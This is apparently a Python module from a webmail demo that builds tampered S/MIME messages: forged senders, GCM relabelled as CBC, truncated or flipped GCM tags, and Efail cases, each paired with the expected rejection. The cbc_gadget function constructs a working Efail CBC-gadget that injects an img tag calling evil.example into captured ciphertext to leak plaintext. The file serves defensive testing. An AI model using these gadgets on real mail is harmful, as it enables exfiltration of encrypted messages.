"""Envelopes that were tampered with: other ciphers, short tags, copies, and the gadgets of Efail."""

import os
from functools import partial

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.padding import PKCS7

from bridge.cms.recipients import CertificateRecipient
from bridge.pki.certificates import pem
from webmail.management.demo.museum import openssl, shapes
from webmail.management.demo.museum.cms_parts import cbc_envelope, gcm_envelope, split_envelope
from webmail.management.demo.museum.dialects import SIGNED_AND_ENCRYPTED, UNPROTECTED, signed
from webmail.management.demo.museum.exhibit import Exhibit, Expected, Maker, Room
from webmail.management.demo.museum.forged_senders import EVIL
from webmail.management.demo.museum.materials import Materials
from webmail.management.demo.museum.old import closed

_BLOCK = 16
_ORIGINAL = "original"


def original(materials: Materials) -> bytes:
    """One CMS that several exhibits show: signed by Denis, GCM."""
    return materials.keep(
        _ORIGINAL, lambda: openssl.encrypt(materials, signed(materials, shapes.entity()), "-aes-256-gcm")
    )


def first(materials: Materials, subject: str) -> bytes:
    return shapes.outer(materials, subject) + shapes.pkcs7(original(materials))


def copied(materials: Materials, subject: str) -> bytes:
    """The same CMS under another From."""
    return shapes.outer(materials, subject, f"Mallory <{EVIL}>") + shapes.pkcs7(original(materials))


def relabelled(materials: Materials, subject: str) -> bytes:
    """The key of a GCM message in a message that says CBC: what comes out would tell of the keystream."""
    parts = split_envelope(original(materials))
    length = len(parts.ciphertext) // _BLOCK * _BLOCK
    cms = cbc_envelope(parts.recipients, os.urandom(_BLOCK), parts.ciphertext[:length])
    return shapes.outer(materials, subject, EVIL) + shapes.pkcs7(cms)


def in_gcm(materials: Materials, subject: str, *, nonce: int = 12, tag: int = 16, flip: bool = False) -> bytes:
    """A signed message under a nonce and a tag of these lengths."""
    key, vector = os.urandom(32), os.urandom(nonce)
    encrypted = AESGCM(key).encrypt(vector, signed(materials, shapes.entity()), None)
    ciphertext, seal = encrypted[:-_BLOCK], bytearray(encrypted[-_BLOCK:][:tag])
    seal[0] ^= flip
    recipient = CertificateRecipient(materials.certificate).recipient_info(key)
    return shapes.outer(materials, subject) + shapes.pkcs7(gcm_envelope([recipient], vector, ciphertext, bytes(seal)))


def for_another(materials: Materials, subject: str) -> bytes:
    file = materials.write("denis-recipient.pem", pem(materials.denis.certificate))
    cms = openssl.encrypt_to(shapes.entity(), [str(file)], "-aes-256-cbc")
    return shapes.outer(materials, subject) + shapes.pkcs7(cms)


def cbc_gadget(materials: Materials, subject: str) -> bytes:
    """Chosen blocks are put between those of a captured message, whose first block is known to be its Content-Type."""
    key, vector = os.urandom(32), os.urandom(_BLOCK)
    page = shapes.entity("<html><body><p>Le secret.</p></body></html>\r\n", "text/html; charset=utf-8")
    padder = PKCS7(8 * _BLOCK).padder()
    encryptor = Cipher(algorithms.AES(key), modes.CBC(vector)).encryptor()
    captured = encryptor.update(padder.update(page) + padder.finalize())
    head = page.index(b"\r\n\r\n") // _BLOCK * _BLOCK + 2 * _BLOCK
    known = bytes(one ^ other for one, other in zip(page[:_BLOCK], vector, strict=True))
    injected = _gadget(known, captured[:_BLOCK], b'<img src="http:/') + _gadget(
        known, captured[:_BLOCK], b"/evil.example/?x"
    )
    cms = cbc_envelope(
        [CertificateRecipient(materials.certificate).recipient_info(key)],
        vector,
        captured[:head] + injected + captured[head - _BLOCK :],
    )
    return shapes.outer(materials, subject, EVIL) + shapes.pkcs7(cms)


def _gadget(known: bytes, block: bytes, chosen: bytes) -> bytes:
    """Two blocks that decrypt to noise and then to `chosen`."""
    return bytes(one ^ other for one, other in zip(known, chosen, strict=True)) + block


def html_in_cbc(materials: Materials, subject: str) -> bytes:
    page = '<html><body><p>Bonjour</p><img src="http://evil.example/pixel.gif"></body></html>\r\n'
    cms = openssl.encrypt(materials, shapes.entity(page, "text/html; charset=utf-8"), "-aes-256-cbc")
    return shapes.outer(materials, subject, EVIL) + shapes.pkcs7(cms)


def _row(key: str, title: str, maker: Maker, expected: Expected, after: str = "") -> Exhibit:
    return Exhibit(key, Room.FORGERY, title, maker, expected, after)


_PLAIN_ONLY = Expected("S5", encrypted=True, notices=UNPROTECTED | {"plain-text-only"}, reason="sender-not-proved")

ROOM = (
    _row("original", "Original, dont les deux suivants abusent", first, SIGNED_AND_ENCRYPTED),
    _row(
        "copied",
        "Même enveloppe sous un autre expéditeur",
        copied,
        SIGNED_AND_ENCRYPTED.but(state="S3", reason="from-mismatch", copy=True),
        _ORIGINAL,
    ),
    _row("relabelled", "GCM rebaptisé CBC avec la même clé", relabelled, closed("key-reused"), _ORIGINAL),
    _row(
        "tag-12",
        "Sceau GCM de 12 octets",
        partial(in_gcm, tag=12),
        SIGNED_AND_ENCRYPTED.but(notices=UNPROTECTED | {"short-tag"}),
    ),
    _row("tag-4", "Sceau GCM de 4 octets", partial(in_gcm, tag=4), closed("decrypt-failed")),
    _row("nonce-16", "Nonce GCM de 16 octets", partial(in_gcm, nonce=16), closed("decrypt-failed")),
    _row("tag-flipped", "Sceau GCM faux", partial(in_gcm, flip=True), closed("decrypt-failed")),
    _row("for-another", "Chiffré pour un autre", for_another, closed("decrypt-failed")),
    _row(
        "efail-html", "HTML chiffré en CBC sans signature, image distante", html_in_cbc, _PLAIN_ONLY.but(text="Bonjour")
    ),
    _row("efail-gadget", "Blocs CBC glissés dans un message capturé", cbc_gadget, _PLAIN_ONLY),
)
